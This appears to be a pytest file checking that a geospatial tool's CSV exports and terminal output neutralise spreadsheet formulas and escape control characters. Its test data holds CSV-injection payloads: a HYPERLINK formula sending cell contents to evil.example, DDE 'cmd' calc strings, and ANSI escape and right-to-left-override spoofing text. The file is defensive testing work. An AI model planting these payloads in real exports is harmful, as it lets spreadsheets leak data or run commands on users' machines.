"""CSV cells a spreadsheet would run as formulas are neutralised (OWASP "CSV injection"), and no
command prints raw control characters to the terminal (issue 20)."""

from __future__ import annotations

import csv
import io as _io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from trust_fixtures import good_layers

from geo import files, settings
from geo.export import csv as export

FORMULAS = ['=HYPERLINK("https://evil.example/?q="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_leading_text_gets_the_apostrophe(text: str) -> None:
    assert files.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-61.5", "-1e3", "+", "plain", "", 3, -2.5, None, "a=b"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    expected = "'+" if value == "+" else value
    assert files.csv_cell(value) == expected


def test_events_csv_neutralises_formulas_in_seed_text() -> None:
    """The adversarial run: =HYPERLINK(...), @SUM(...), +cmd|... in seed text landed verbatim in
    layers/events.csv, the file the README gives to spreadsheet users."""
    layers = good_layers()
    feats = layers["events"]["features"]
    props = feats[0]["properties"]
    props["notes"], props["actor1"], props["location"] = FORMULAS[0], FORMULAS[1], FORMULAS[2]
    feats[1]["properties"]["notes"] = FORMULAS[3]
    rows = list(csv.DictReader(_io.StringIO(export.events_csv(layers["events"]).decode("utf-8"))))
    assert rows[0]["notes"] == "'" + FORMULAS[0]
    assert rows[0]["actor1"] == "'" + FORMULAS[1]
    assert rows[0]["location"] == "'" + FORMULAS[2]
    assert rows[1]["notes"] == "'" + FORMULAS[3]
    for r in rows:  # numbers are still numbers
        assert float(r["longitude"]) and float(r["latitude"])
        assert not any(v.startswith(files.FORMULA_START) for v in r.values() if v)


def _hostile_geojson(path: Path) -> None:
    fc = {"type": "FeatureCollection", "features": [{
        "type": "Feature", "id": "=1+1", "properties": {"name": '=HYPERLINK("x")\x1b[2J\x1b]0;pwned\x07 \u202egnp.exe'},
        "geometry": {"type": "LineString", "coordinates": [[61.0, 29.0], [62.0, 29.5]]}}]}
    path.write_text(json.dumps(fc, ensure_ascii=False), encoding="utf-8")


@pytest.mark.parametrize("fmt", ["--csv", "--csv-long", "--json", "table"])
def test_geo_lengths_output_holds_no_raw_control_characters_or_formulas(tmp_path: Path, fmt: str) -> None:
    """`geo lengths --csv` printed raw terminal escapes (ESC [2J clears the screen) from names."""
    path = tmp_path / "hostile\x1b[31m.geojson"
    _hostile_geojson(path)
    args = [sys.executable, "-m", "geo", "lengths", str(path)] + ([] if fmt == "table" else [fmt])
    proc = subprocess.run(args, cwd=settings.ROOT, capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout + proc.stderr
    raw = [c for c in out if c not in "\n" and (ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f or c in "\u202e\u2028")]
    assert raw == [], raw
    if fmt.startswith("--csv"):
        rows = list(csv.DictReader(_io.StringIO(proc.stdout)))
        assert rows[0]["name"].startswith("'=HYPERLINK")
        assert rows[0]["id"] == "'=1+1"
    if fmt == "--json":
        feat = json.loads(proc.stdout)["sources"][0]["features"][0]
        assert feat["name"].startswith('=HYPERLINK("x")\x1b[2J')  # the data itself is unchanged


def test_geo_static_out_path_is_escaped_in_its_error(tmp_path: Path) -> None:
    out = tmp_path / "map\x1b[2J.svg"
    proc = subprocess.run([sys.executable, "-m", "geo", "static", "--out", str(out), "--format", "png"],
                          cwd=settings.ROOT, capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 2 and len(proc.stderr.splitlines()) == 1, proc.stderr
    assert "\x1b" not in proc.stderr and "\\e[2J" in proc.stderr, proc.stderr


@pytest.mark.slow
def test_geo_static_out_path_is_escaped(tmp_path: Path) -> None:
    out = tmp_path / "map\x1b[2J.svg"
    proc = subprocess.run([sys.executable, "-m", "geo", "static", "--out", str(out), "--size", "400x300"],
                          cwd=settings.ROOT, capture_output=True, text=True, timeout=300, check=False)
    assert "\x1b" not in proc.stderr and "\\e[2J" in proc.stderr, proc.stderr


# ---------------------------------------------------------------- geo draft -> review -> geo accept


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r1.eE ab")), max_size=8) | st.text(max_size=12))
@example("'=1+1")
@example("''=x")
@example("'-61.5")
def test_restore_undoes_the_apostrophe_exactly(text: str) -> None:
    assert files.csv_cell_restore(files.csv_cell(text)) == text


def test_draft_csvs_neutralise_formulas_and_accept_reads_them_back(tmp_path: Path) -> None:
    """A reviewer opens geo draft's CSVs in a spreadsheet: article text starting with = or @ must
    not run there. geo accept reads the apostrophe back, so the seeds get the article's own words."""
    from geo.accept import _read_draft
    from geo.build import seeds
    from geo.draft.command import _csv_text

    text = _csv_text(["id", "notes", "fatalities"], [{"id": "d-1", "notes": FORMULAS[0], "fatalities": "-2"}])
    row = list(csv.reader(_io.StringIO(text)))[1]
    assert row == ["d-1", "'" + FORMULAS[0], "-2", "draft"]

    src = settings.ROOT / "tests" / "draft" / "drafts" / "sirkan-2024-01-killings" / "events.csv"
    rows = list(csv.reader(_io.StringIO(src.read_text(encoding="utf-8"))))
    col, status = rows[0].index("notes"), rows[0].index("status")
    accepted = next(i for i, r in enumerate(rows) if i and r[status] == "accepted")
    rows[accepted][col] = files.csv_cell("@SUM(1+1) noted by the reviewer (test text)")
    buf = _io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    (tmp_path / "events.csv").write_text(buf.getvalue(), encoding="utf-8")
    got = dict(_read_draft(tmp_path / "events.csv", seeds.EVENTS))
    assert got[accepted + 1]["notes"] == "@SUM(1+1) noted by the reviewer (test text)"
